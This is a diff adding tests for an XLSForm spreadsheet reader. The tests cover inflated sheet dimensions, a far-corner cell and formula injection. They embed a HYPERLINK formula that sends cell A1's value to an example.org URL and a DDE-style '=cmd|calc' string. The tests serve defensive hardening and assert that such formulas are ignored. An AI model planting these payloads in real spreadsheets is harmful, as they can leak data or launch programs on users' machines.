@@ -66,7 +66,58 @@ describe('a file arrives', () => {
     expect((await readXlsForm(bytes, 'x.xlsx', { fileBytes: 100 })).errors[0]?.code).toBe('file_too_large');
     expect((await readXlsForm(bytes, 'x.xlsx', { cells: 4 })).errors[0]?.code).toBe('sheet_too_large');
   });
+
+  it('whose sheet says that it has seventeen billion cells is read as far as it is filled', async () => {
+    const form = await readXlsForm(
+      patched(workbook({ survey: SURVEY }), (xml) =>
+        xml.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>'),
+      ),
+      'report.xlsx',
+    );
+    expect(form.errors).toEqual([]);
+    expect(form.xform).toContain('<hurt>3</hurt>');
+  });
+
+  it('with one cell at the far end of its sheet is refused or read, and never waited for', async () => {
+    const form = await readXlsForm(
+      patched(workbook({ survey: SURVEY }), (xml) =>
+        xml.replace('</sheetData>', '<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>'),
+      ),
+      'report.xlsx',
+    );
+    expect(form.errors.map((it) => it.code).filter((it) => it !== 'sheet_too_large')).toEqual([]);
+  });
+
+  it('with formulas in its cells is read by what they came to, and the formula goes nowhere', async () => {
+    const sheet = xlsx.utils.aoa_to_sheet(SURVEY);
+    sheet['C2'] = { t: 's', v: 'How many?', f: 'HYPERLINK("http://example.org/"&A1,"How many?")' };
+    sheet['D2'] = { t: 'n', v: 3, f: 'SUM(1,2)' };
+    sheet['C3'] = { t: 's', v: '=cmd|calc' };
+    const book = xlsx.utils.book_new();
+    xlsx.utils.book_append_sheet(book, sheet, 'survey');
+    const form = await readXlsForm(
+      new Uint8Array(xlsx.write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer),
+      'report.xlsx',
+    );
+    expect(form.errors).toEqual([]);
+    expect(form.xform).toContain('<label>How many?</label>');
+    expect(form.xform).toContain('<hurt>3</hurt>');
+    // a text that looks like a formula is the text it is
+    expect(form.xform).toContain('<label>=cmd|calc</label>');
+    expect(form.xform).not.toMatch(/HYPERLINK|SUM\(/);
+  });
 });
+
+/** The same workbook with its first sheet written otherwise. */
+function patched(bytes: Uint8Array, change: (xml: string) => string): Uint8Array {
+  const zip = xlsx.CFB.read(Buffer.from(bytes), { type: 'buffer' });
+  const at = zip.FullPaths.findIndex((it: string) => it.endsWith('sheet1.xml'));
+  const before = Buffer.from(zip.FileIndex[at]!.content as Uint8Array).toString('utf8');
+  const after = change(before);
+  expect(after).not.toBe(before);
+  zip.FileIndex[at]!.content = Buffer.from(after);
+  return new Uint8Array(xlsx.CFB.write(zip, { type: 'buffer', fileType: 'zip' }) as Buffer);
+}
 
 /** A zip with one entry whose directory lies about its size. */
 function zipOf(content: Uint8Array): Uint8Array {
